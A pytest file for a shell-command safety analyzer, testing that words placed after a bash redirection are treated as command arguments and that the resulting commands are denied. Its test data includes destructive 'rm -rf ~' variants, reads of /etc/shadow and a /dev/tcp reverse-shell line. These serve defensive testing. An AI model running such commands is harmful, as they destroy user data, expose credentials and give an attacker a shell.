"""Words after a redirection's target are the command's arguments, as bash runs them.

tree-sitter-bash 0.25 hangs every word after a redirection's target on the redirection:
``rm >a -rf ~`` is the command ``rm`` with a ``file_redirect`` of three destinations, and
``rm <<EOF -rf ~`` a here-document with two ``argument`` children.  The tree walk once
judged ``rm`` alone (``rm >a -rf ~`` and ``cat >a /etc/shadow`` were allowed); it now gives
those words to the command, and refuses them after a compound command's redirection
(``{ ls; } >a b`` is a syntax error to bash).  A number glued to the next redirection's
operator stays that redirection's descriptor (``>&/dev/tcp/h/1 0>&1``).  Found while
hunting fast-path divergences (the fast path declines these texts, so both paths agreed).
"""

from __future__ import annotations

import pytest
from conftest import build_ir

from stockade.analyzer import analyze
from stockade.analyzer.effects import Execute, Write
from stockade.analyzer.walker import walk_command

HOME = "/home/dev"

#: (command, the argv bash runs — checked with ``printf '[%s]'`` in their place)
ARGV = [
    ("rm >a -rf ~", ("rm", "-rf", HOME)),
    ("rm -rf >a ~", ("rm", "-rf", HOME)),
    ("rm 2>a -rf ~ >b x", ("rm", "-rf", HOME, "x")),
    ("rm >&2 -rf ~", ("rm", "-rf", HOME)),
    ("cat >a /etc/shadow", ("cat", "/etc/shadow")),
    ("ls >a b 2>&1 c", ("ls", "b", "c")),
    ("rm <<EOF -rf ~\nEOF\n", ("rm", "-rf", HOME)),
    ("cat <<EOF >a /etc/shadow\nEOF\n", ("cat", "/etc/shadow")),
    ("x=q; rm >a ${x}a$x~ ~", ("rm", "qaq~", HOME)),  # a split word after the target
    ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", ("bash", "-i")),  # `0` is the next descriptor
]


@pytest.fixture(scope="module")
def home_ir():
    return build_ir("/var/tmp/stockade-redir/ws", HOME, "/var/tmp/stockade-redir/tmp")


@pytest.mark.parametrize("command,argv", ARGV)
def test_words_after_a_redirection_are_arguments(home_ir, command: str, argv: tuple[str, ...]) -> None:
    runs = [e.argv for e in walk_command(home_ir.context, command, fast_path=False) if isinstance(e, Execute)]
    assert runs == [argv], (command, runs)
    assert analyze(command, home_ir) == analyze(command, home_ir, fast_path=False)


@pytest.mark.parametrize("command", ["rm >a -rf ~", "cat >a /etc/shadow", "rm <<EOF -rf ~\nEOF\n",
                                     "rm >/dev/null -rf ~ | cat", "x=1; rm 2>a -rf ~ && ls"])
def test_words_after_a_redirection_are_judged(home_ir, command: str) -> None:
    assert analyze(command, home_ir).decision == "deny"


@pytest.mark.parametrize("command", ["{ ls; } >a b", "(ls) >a b", "while true; do :; done >a b"])
def test_a_word_after_a_compound_redirection_is_refused(home_ir, command: str) -> None:
    verdict = analyze(command, home_ir)
    assert verdict.decision == "deny" and verdict.reasons[0].code == "A400", verdict


def test_split_redirection_target_is_one_word(home_ir) -> None:
    effects = walk_command(home_ir.context, "x=q; ls >${HOME}/.ssh$x~", fast_path=False)
    assert [(e.path, e.span) for e in effects if isinstance(e, Write)] == [("/home/dev/.sshq~", (9, 24))]
